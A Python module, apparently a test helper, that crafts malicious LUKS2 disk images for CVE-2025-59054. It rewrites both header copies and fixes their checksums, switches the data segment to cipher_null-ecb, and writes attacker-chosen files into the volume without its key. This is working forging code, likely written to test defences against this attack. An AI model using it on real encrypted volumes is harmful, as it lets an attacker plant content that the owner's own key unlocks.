"""Images as whoever writes the blob can make them: the owner's header and key slots, the attacker's files, no key.

The LUKS2 header has a checksum and no key. With the segment's cipher set to cipher_null-ecb, what lies behind the header
is served as it is, and the owner's own key opens it (CVE-2025-59054 and its relatives).
"""

import hashlib
import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

DATA_OFFSET = 16 * 1024 * 1024
BINARY_HEADER, CHECKSUM = 4096, slice(0x1C0, 0x1C0 + 64)
Change = Callable[[dict[str, Any]], None]


def change_header(image: Path, change: Change) -> None:
    """Change the JSON of both headers and put their checksums right."""
    with image.open("r+b") as file:
        size = int.from_bytes(file.read(16)[8:16], "big")
        for offset in (0, size):
            file.seek(offset)
            header = bytearray(file.read(size))
            metadata = json.loads(header[BINARY_HEADER:].rstrip(b"\0"))
            change(metadata)
            header[BINARY_HEADER:] = json.dumps(metadata).encode().ljust(size - BINARY_HEADER, b"\0")
            header[CHECKSUM] = bytes(64)
            header[CHECKSUM] = hashlib.sha256(header).digest().ljust(64, b"\0")
            file.seek(offset)
            file.write(header)


def null_cipher(metadata: dict[str, Any]) -> None:
    """Say that the data are not encrypted at all."""
    metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"


def swap_content(image: Path, directory: Path) -> None:
    """Put the files of a directory into a sealed image, without its key."""
    plain = image.with_suffix(".plain")
    blocks = (image.stat().st_size - DATA_OFFSET) // 4096 + 1024
    command = ["/usr/sbin/mke2fs", "-q", "-F", "-t", "ext4", "-b", "4096", "-d", directory, plain, str(blocks)]
    subprocess.run(command, check=True, capture_output=True)
    with image.open("r+b") as file:
        file.seek(DATA_OFFSET)
        file.write(plain.read_bytes())
    plain.unlink()
    change_header(image, null_cipher)
